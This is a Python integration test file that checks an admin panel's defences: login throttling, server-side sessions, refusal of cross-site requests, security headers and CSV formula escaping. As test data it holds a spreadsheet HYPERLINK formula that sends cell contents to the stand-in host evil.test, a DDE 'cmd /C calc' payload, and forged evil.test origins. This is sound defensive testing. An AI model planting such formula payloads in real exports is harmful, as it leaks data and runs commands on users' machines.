"""The admin panel against an attacker, through HTTP on real PostgreSQL: logins throttled
per account and per address (counted in the database), server-side sessions that logout,
deactivation and time end, changes from other sites refused, security headers on every
answer, and CSV cells that a spreadsheet would run as formulas escaped."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime, timedelta
from ipaddress import ip_network

import httpx
import pytest
from asgi_lifespan import LifespanManager
from fastapi import FastAPI
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from billing.admin.service import deactivate_admin_user
from billing.app import create_app
from billing.clock import FrozenClock
from billing.config import Settings
from billing.db import transaction
from billing.models import AdminLoginFailure, AdminSession, AdminUser, Payment, Tariff
from tests.integration.checkout_helpers import add_tariff
from tests.integration.test_admin_api_payments import add_payment
from tests.integration.test_admin_panel_http import (
    PASSWORD,
    add_admin,
    login,
    redirects_to_login,
    tariff_form,
)

Sessions = async_sessionmaker[AsyncSession]
Headers = Callable[..., dict[str, str]]
WRONG = "not the password"


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """These tests read the panel's English messages (Russian is the default)."""
    return settings.model_copy(update={"admin_locale": "en"})


def browser_at(app: FastAPI, address: str = "203.0.113.7") -> httpx.AsyncClient:
    """A browser on the machine at ``address``."""
    transport = httpx.ASGITransport(app=app, client=(address, 50000))
    return httpx.AsyncClient(transport=transport, base_url="http://billing.test")


async def count(sessions: Sessions, model: type) -> int:
    async with sessions() as session:
        return int(await session.scalar(select(func.count()).select_from(model)) or 0)


async def fail_logins(app: FastAPI, times: int, *, username: str, address: str) -> None:
    async with browser_at(app, address) as browser:
        for _ in range(times):
            assert (await login(browser, username, WRONG)).status_code == 400


def is_throttled(response: httpx.Response) -> bool:
    return response.status_code == 429 and "Too many failed logins" in response.text


# --- login throttling ---------------------------------------------------------------------


async def test_the_sixth_login_of_an_account_is_refused_even_with_its_password(
    app: FastAPI, sessions: Sessions, clock: FrozenClock
) -> None:
    await add_admin(sessions, "marta")
    # Five failures from five machines: the account is what is counted.
    for n in range(5):
        await fail_logins(app, 1, username="MARTA ", address=f"198.51.100.{n}")
        clock.advance(timedelta(minutes=1))

    async with browser_at(app, "192.0.2.99") as browser:
        refused = await login(browser, "marta")
        assert is_throttled(refused), (refused.status_code, refused.text[:300])
        assert refused.headers["content-type"].startswith("text/html")
        # The oldest failure leaves the 15-minute window 10 minutes from now.
        assert refused.headers["retry-after"] == str(10 * 60)
        assert "try again in 10 min" in refused.text
        assert "billing_admin" not in refused.headers.get("set-cookie", "")
        assert redirects_to_login(await browser.get("/admin/"))
    assert await count(sessions, AdminSession) == 0

    # Another account is not held back by marta's.
    await add_admin(sessions, "olga")
    async with browser_at(app, "192.0.2.100") as browser:
        assert (await login(browser, "olga")).status_code == 302


async def test_the_sixth_login_from_an_address_is_refused_whatever_the_account(
    app: FastAPI, sessions: Sessions
) -> None:
    await add_admin(sessions, "marta")
    address = "203.0.113.50"
    for username in ("root", "admin", "nobody", "marta", "test"):
        await fail_logins(app, 1, username=username, address=address)

    async with browser_at(app, address) as browser:
        assert is_throttled(await login(browser, "marta"))
    async with browser_at(app, "203.0.113.51") as elsewhere:
        assert (await login(elsewhere, "marta")).status_code == 302


async def test_behind_a_trusted_proxy_failures_are_counted_per_forwarded_client(
    settings: Settings, sessions: Sessions, clock: FrozenClock
) -> None:
    """Through nginx every login has the proxy as its peer: counted per peer, one guesser
    would lock every admin out. Behind ``BILLING_TRUSTED_PROXIES`` the forwarded client is
    counted; a peer that is no trusted proxy cannot choose its address by the header."""
    behind_nginx = settings.model_copy(update={"trusted_proxies": (ip_network("10.0.0.0/24"),)})
    app = create_app(behind_nginx, clock=clock)
    await add_admin(sessions, "marta")

    def through(peer: str, forwarded: str) -> httpx.AsyncClient:
        transport = httpx.ASGITransport(app=app, client=(peer, 50000))
        return httpx.AsyncClient(
            transport=transport,
            base_url="http://billing.test",
            headers={"X-Forwarded-For": forwarded},
        )

    async with through("10.0.0.2", "198.51.100.66") as guesser:
        for username in ("root", "admin", "nobody", "test", "olga"):
            assert (await login(guesser, username, WRONG)).status_code == 400
        assert is_throttled(await login(guesser, "marta"))
    async with through("10.0.0.2", "198.51.100.77") as colleague:  # same proxy, other person
        assert (await login(colleague, "marta")).status_code == 302
    # Straight from the guesser's address, naming another in the header: still the guesser.
    async with through("198.51.100.66", "192.0.2.1") as direct:
        assert is_throttled(await login(direct, "marta"))


async def test_logins_are_allowed_again_once_the_window_has_passed(
    app: FastAPI, sessions: Sessions, clock: FrozenClock
) -> None:
    await add_admin(sessions, "marta")
    await fail_logins(app, 5, username="marta", address="203.0.113.7")
    async with browser_at(app) as browser:
        clock.advance(timedelta(minutes=14, seconds=59))
        # Refused tries check no password and do not extend the wait.
        for _ in range(3):
            refused = await login(browser, "marta")
            assert is_throttled(refused)
        assert refused.headers["retry-after"] == "1"

        clock.advance(timedelta(seconds=1))
        assert (await login(browser, "marta")).status_code == 302
        assert (await browser.get("/admin/")).status_code == 200
    # Failures that left the window are deleted; the success left none behind.
    assert await count(sessions, AdminLoginFailure) == 0


async def test_a_success_is_no_failure_and_four_failures_are_not_enough(
    app: FastAPI, sessions: Sessions
) -> None:
    await add_admin(sessions, "marta")
    await fail_logins(app, 4, username="marta", address="203.0.113.7")
    async with browser_at(app) as browser:
        for _ in range(3):
            assert (await login(browser, "marta")).status_code == 302
        assert (await login(browser, "marta", WRONG)).status_code == 400
        assert is_throttled(await login(browser, "marta"))
    assert await count(sessions, AdminLoginFailure) == 5


async def test_concurrent_wrong_passwords_get_no_more_than_five_checks(
    app: FastAPI, sessions: Sessions
) -> None:
    await add_admin(sessions, "marta")
    async with browser_at(app) as browser:
        # Each try is counted before its password is checked, so racing tries see each
        # other: a burst gets at most five checks (often none: each sees the others).
        burst = await asyncio.gather(*(login(browser, "marta", WRONG) for _ in range(15)))
        then = [await login(browser, "marta", WRONG) for _ in range(10)]
        statuses = [answer.status_code for answer in [*burst, *then]]
        assert set(statuses) == {400, 429}, statuses
        assert statuses.count(400) == 5, statuses
        assert is_throttled(await login(browser, "marta"))
    assert await count(sessions, AdminLoginFailure) == 5


@pytest.fixture
async def second_process(settings: Settings, clock: FrozenClock) -> AsyncIterator[FastAPI]:
    """Another API process on the same database."""
    application = create_app(settings, clock=clock)
    async with LifespanManager(application):
        yield application


async def test_failures_are_shared_by_every_api_process(
    app: FastAPI, second_process: FastAPI, sessions: Sessions
) -> None:
    await add_admin(sessions, "marta")
    await fail_logins(app, 3, username="marta", address="198.51.100.1")
    await fail_logins(second_process, 2, username="marta", address="198.51.100.2")
    for process in (app, second_process):
        async with browser_at(process, "198.51.100.3") as browser:
            assert is_throttled(await login(browser, "marta"))


async def test_odd_login_input_is_a_failure_not_an_error(app: FastAPI, sessions: Sessions) -> None:
    await add_admin(sessions, "marta")
    async with browser_at(app) as browser:
        for username in ("mar\x00ta", "x" * 5000, "marta\x00"):
            assert (await login(browser, username)).status_code == 400, username
        missing = await browser.post("/admin/login", data={"username": "marta"})
        assert missing.status_code == 400
    assert await count(sessions, AdminLoginFailure) == 3


async def test_the_panel_answers_503_at_once_while_the_database_is_unreachable(
    settings: Settings, clock: FrozenClock
) -> None:
    unreachable = settings.model_copy(
        update={"database_url": "postgresql://postgres@127.0.0.1:9/billing"}
    )
    application = create_app(unreachable, clock=clock)
    async with LifespanManager(application), browser_at(application) as browser:
        assert (await browser.get("/admin/login")).status_code == 200  # needs no database
        tried = await login(browser, "marta")
        browser.cookies.set("billing_admin", "a-token", domain="billing.test")
        page = await browser.get("/admin/payment/list")
    for answer in (tried, page):
        assert answer.status_code == 503
        assert "database is unreachable" in answer.text
        assert answer.headers["retry-after"] == "5"
        assert answer.headers["x-frame-options"] == "DENY"


# --- sessions -----------------------------------------------------------------------------


async def logged_in(app: FastAPI, username: str = "marta") -> httpx.AsyncClient:
    browser = browser_at(app)
    response = await login(browser, username)
    assert response.status_code == 302, response.text
    return browser


def replay(app: FastAPI, cookie: str) -> httpx.AsyncClient:
    """Another browser carrying a copied session cookie."""
    browser = browser_at(app, "192.0.2.200")
    browser.cookies.set("billing_admin", cookie, domain="billing.test")
    return browser


async def test_the_cookie_is_a_random_token_of_a_session_kept_in_the_database(
    app: FastAPI, sessions: Sessions
) -> None:
    user = await add_admin(sessions, "marta")
    first, second = await logged_in(app), await logged_in(app)
    tokens = {first.cookies["billing_admin"], second.cookies["billing_admin"]}
    assert len(tokens) == 2
    for token in tokens:
        assert len(token) >= 43 and str(user.id) not in token and "marta" not in token
    async with sessions() as session:
        stored = list(await session.scalars(select(AdminSession)))
    assert {row.admin_user_id for row in stored} == {user.id}
    assert tokens.isdisjoint(row.token_hash for row in stored)


async def test_logout_ends_the_session_and_its_cookie_opens_nothing_after(
    app: FastAPI, sessions: Sessions
) -> None:
    await add_admin(sessions, "marta")
    browser = await logged_in(app)
    other_session = await logged_in(app)  # marta on another computer
    cookie = browser.cookies["billing_admin"]
    async with replay(app, cookie) as copy:
        assert (await copy.get("/admin/payment/list")).status_code == 200

    out = await browser.get("/admin/logout")
    assert redirects_to_login(out)
    assert 'billing_admin=""' in out.headers["set-cookie"]

    async with replay(app, cookie) as copy:
        assert redirects_to_login(await copy.get("/admin/payment/list"))
        tariff = await add_tariff(sessions, price=49900)
        changed = await copy.post(
            f"/admin/tariff/edit/{tariff.id}", data=tariff_form(tariff, monthly_price="1")
        )
        assert redirects_to_login(changed)
    async with sessions() as session:
        assert (await session.get_one(Tariff, tariff.id)).monthly_price == 49900
    # Only that session ended.
    assert (await other_session.get("/admin/")).status_code == 200


async def test_deactivating_an_account_ends_its_sessions(app: FastAPI, sessions: Sessions) -> None:
    await add_admin(sessions, "marta")
    await add_admin(sessions, "olga")
    marta, olga = await logged_in(app, "marta"), await logged_in(app, "olga")
    async with transaction(sessions) as session:
        await deactivate_admin_user(session, "Marta", actor="root")
    assert redirects_to_login(await marta.get("/admin/"))
    assert is_throttled(await login(marta, "marta")) is False
    assert (await login(marta, "marta")).status_code == 400
    assert (await olga.get("/admin/")).status_code == 200

    # Its sessions are gone: making the account active again does not revive them.
    async with transaction(sessions) as session:
        user = await session.scalar(select(AdminUser).where(AdminUser.username == "marta"))
        assert user is not None
        user.is_active = True
    assert redirects_to_login(await marta.get("/admin/"))


async def test_a_session_lasts_a_working_day(
    app: FastAPI, sessions: Sessions, clock: FrozenClock
) -> None:
    await add_admin(sessions, "marta")
    browser = await logged_in(app)
    login_answer = await login(browser_at(app), "marta")
    assert "max-age=28800" in login_answer.headers["set-cookie"].lower()
    clock.advance(timedelta(hours=7, minutes=59))
    assert (await browser.get("/admin/")).status_code == 200
    clock.advance(timedelta(minutes=1))
    assert redirects_to_login(await browser.get("/admin/"))
    # An expired session is deleted at the next login.
    assert (await login(browser_at(app), "marta")).status_code == 302
    async with sessions() as session:
        left = list(await session.scalars(select(AdminSession)))
    assert [row.created_at for row in left] == [clock.now()]


# --- changes from other sites -------------------------------------------------------------


@pytest.fixture
async def marta(app: FastAPI, sessions: Sessions) -> httpx.AsyncClient:
    await add_admin(sessions, "marta")
    return await logged_in(app)


async def price_after(
    marta: httpx.AsyncClient, sessions: Sessions, headers: dict[str, str]
) -> tuple[httpx.Response, int]:
    tariff = await add_tariff(sessions, price=49900)
    response = await marta.post(
        f"/admin/tariff/edit/{tariff.id}",
        data=tariff_form(tariff, monthly_price="1"),
        headers=headers,
    )
    async with sessions() as session:
        return response, (await session.get_one(Tariff, tariff.id)).monthly_price


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.test"},
        {"Origin": "null"},  # a sandboxed frame, a data: page
        {"Origin": "http://billing.test.evil.test"},
        {"Origin": "https://billing.test"},  # another scheme is another origin
        {"Origin": "http://billing.test:8080"},
        {"Referer": "https://evil.test/prices.html"},
        {"Origin": "https://evil.test", "Referer": "http://billing.test/admin/"},
    ],
)
async def test_a_change_sent_from_another_site_is_refused(
    marta: httpx.AsyncClient, sessions: Sessions, headers: dict[str, str]
) -> None:
    response, price = await price_after(marta, sessions, headers)
    assert response.status_code == 403
    assert "sent from another site" in response.text
    assert price == 49900


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://billing.test"},  # BILLING_PUBLIC_URL's origin
        {"Origin": "HTTP://BILLING.TEST:80"},
        {"Referer": "http://billing.test/admin/tariff/edit/x"},
        {},  # no browser sends a POST without Origin: this is a script, with no one's cookie
    ],
)
async def test_a_change_from_the_panel_itself_is_accepted(
    marta: httpx.AsyncClient, sessions: Sessions, headers: dict[str, str]
) -> None:
    response, price = await price_after(marta, sessions, headers)
    assert response.status_code == 302, response.text
    assert price == 100


async def test_the_requests_own_host_is_the_panels_origin_too(
    app: FastAPI, sessions: Sessions
) -> None:
    """Behind a proxy the panel may be reached under a name other than BILLING_PUBLIC_URL's
    (http://billing.test here); its own pages then send that origin."""
    await add_admin(sessions, "marta")
    tariff = await add_tariff(sessions, price=49900)
    transport = httpx.ASGITransport(app=app, client=("10.0.0.5", 50000))
    async with httpx.AsyncClient(transport=transport, base_url="http://panel.internal:8080") as b:
        own = {"Origin": "http://panel.internal:8080"}
        assert (await login(b, "marta", PASSWORD)).status_code == 302
        response = await b.post(
            f"/admin/tariff/edit/{tariff.id}",
            data=tariff_form(tariff, monthly_price="2"),
            headers=own,
        )
        assert response.status_code == 302
        foreign = await b.post(
            f"/admin/tariff/edit/{tariff.id}",
            data=tariff_form(tariff, monthly_price="3"),
            headers={"Origin": "http://panel.internal:8081"},
        )
        assert foreign.status_code == 403
    async with sessions() as session:
        assert (await session.get_one(Tariff, tariff.id)).monthly_price == 200


async def test_a_login_or_delete_from_another_site_is_refused(
    app: FastAPI, sessions: Sessions, marta: httpx.AsyncClient
) -> None:
    async with browser_at(app) as browser:
        response = await browser.post(
            "/admin/login",
            data={"username": "marta", "password": PASSWORD},
            headers={"Origin": "https://evil.test"},
        )
    assert response.status_code == 403
    assert "set-cookie" not in response.headers
    assert await count(sessions, AdminLoginFailure) == 0

    created = await marta.post(
        "/admin/duration-discount/create", data={"months": "3", "percent": "5", "save": "Save"}
    )
    assert created.status_code == 302
    refused = await marta.delete(
        "/admin/duration-discount/delete?pks=3", headers={"Origin": "https://evil.test"}
    )
    assert refused.status_code == 403
    listing = await marta.get("/admin/duration-discount/list")
    assert "5\u00a0%" in listing.text


# --- headers ------------------------------------------------------------------------------


async def test_every_panel_answer_forbids_framing_and_foreign_content(
    app: FastAPI, marta: httpx.AsyncClient
) -> None:
    async with browser_at(app) as anonymous:
        answers = {
            "login page": await anonymous.get("/admin/login"),
            "redirect to login": await anonymous.get("/admin/payment/list"),
            "wrong password": await login(anonymous, "marta", WRONG),
            "refused origin": await anonymous.post(
                "/admin/login", headers={"Origin": "https://evil.test"}
            ),
            "static file": await anonymous.get("/admin/statics/js/main.js"),
        }
    answers |= {
        "first page": await marta.get("/admin/"),
        "list": await marta.get("/admin/payment/list"),
        "export": await marta.get("/admin/payment/export/csv"),
        "missing page": await marta.get("/admin/payment/details/not-a-uuid"),
        "not allowed": await marta.get("/admin/outbox-event/list"),
    }
    for name, answer in answers.items():
        policy = answer.headers.get("content-security-policy", "")
        directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
        assert directives["default-src"] == "'self'", name
        assert directives["script-src"] == "'self'", name  # no inline scripts either
        assert directives["style-src"] == "'self'", name
        assert directives["img-src"] == "'self' data:", name
        assert directives["frame-src"] == "'none'", name
        assert directives["frame-ancestors"] == "'none'", name
        assert answer.headers["x-frame-options"] == "DENY", name
        assert answer.headers["x-content-type-options"] == "nosniff", name
        expected_cache = None if name == "static file" else "no-store"
        assert answer.headers.get("cache-control") == expected_cache, name
    assert answers["static file"].status_code == 200
    assert answers["missing page"].status_code == 404


# --- CSV exports --------------------------------------------------------------------------


def exported(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_exported_cells_that_a_spreadsheet_would_run_are_escaped(
    marta: httpx.AsyncClient, sessions: Sessions, client: httpx.AsyncClient, auth_headers: Headers
) -> None:
    # The provider chooses its payment ids; a token's subject becomes the audit log's actor.
    tariff = await add_tariff(sessions)
    payment_id = await add_payment(
        sessions, tariff, user_id=uuid.uuid4(), created_at=datetime(2025, 5, 10, tzinfo=UTC)
    )
    async with transaction(sessions) as session:
        payment = await session.get_one(Payment, payment_id)
        payment.provider_payment_id = '=HYPERLINK("http://evil.test/?"&A1,"details")'
    subject = "@SUM(1+1)*cmd|' /C calc'!A0"
    created = await client.post(
        "/api/v1/admin/promo-codes",
        json={"code": "SPRING25", "percent": 10},
        headers=auth_headers(subject, "marketing"),
    )
    assert created.status_code == 201, created.text

    [row] = exported(await marta.get("/admin/payment/export/csv"))
    assert row["Provider's payment id"] == '\'=HYPERLINK("http://evil.test/?"&A1,"details")'
    assert row["Refunded at"] == ""  # no value, no "None"
    assert row["Amount"] == "499.00"
    [promo] = exported(await marta.get("/admin/promo-code/export/csv"))
    assert promo["Created by"] == f"'{subject}"
    assert promo["Code"] == "SPRING25"
    [entry] = exported(await marta.get("/admin/audit-entry/export/csv?entity_type=promo_codes"))
    assert entry["Who"] == f"'{subject}"
